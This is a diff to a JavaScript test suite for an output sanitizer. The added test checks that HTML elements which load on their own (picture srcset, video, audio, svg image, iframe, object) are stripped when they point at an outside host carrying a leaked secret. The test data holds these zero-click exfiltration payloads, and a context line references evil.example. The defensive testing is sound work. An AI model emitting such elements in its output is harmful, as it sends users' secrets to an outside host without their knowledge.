@@ -39,6 +39,25 @@ describe('images from outside hosts: the URL as a browser fetches it', () => {
     for (const image of images) assert.equal(await echo(`Done. ${image} Bye.`), 'Done. [removed] Bye.', image);
   });
 
+  it('other elements a page fetches as it loads, no click needed: found and stripped (found by a review)', async () => {
+    // Before, only <img> was read: a <picture>'s <source srcset> sent the secret as surely.
+    const fetched = [
+      `<picture><source srcset="https://${LEAK} 1x"></picture>`,
+      `<video poster="https://${LEAK}"></video>`,
+      `<video src="//${LEAK}"></video>`,
+      `<audio src="https://${LEAK}"></audio>`,
+      `<input type="image" src="https://${LEAK}">`,
+      `<svg><image href="https://${LEAK}"/></svg>`,
+      `<iframe src="https://${LEAK}"></iframe>`,
+      `<object data="https://${LEAK}"></object>`,
+    ];
+    for (const html of fetched) assert.match(await echo(`Done. ${html} Bye.`), /\[removed\]/, html);
+    // Fetched by nothing, or only on a click: left.
+    for (const left of [`<a href="https://${LEAK}">link</a>`, `<input type="text" src="https://${LEAK}">`, `<video src="img.example.com.mp4"></video>`, `<object data="https://img.example.com/a.svg"></object>`]) {
+      assert.equal(await echo(`Done. ${left} Bye.`), `Done. ${left} Bye.`, left);
+    }
+  });
+
   it('an allowed host, a relative or data: URL, a data-src: left as they are', async () => {
     for (const image of ['![x](https://img.example.com/a.png)', '<img src="img/a.png" srcset="img/a.png 1x, img/b.png 2x">', '<img src="data:image/png;base64,AAAA">', '<img data-src="https://evil.example/x">', '![x](http:img.example.com/a.png)']) {
       assert.equal(await echo(`Done. ${image} Bye.`), `Done. ${image} Bye.`, image);
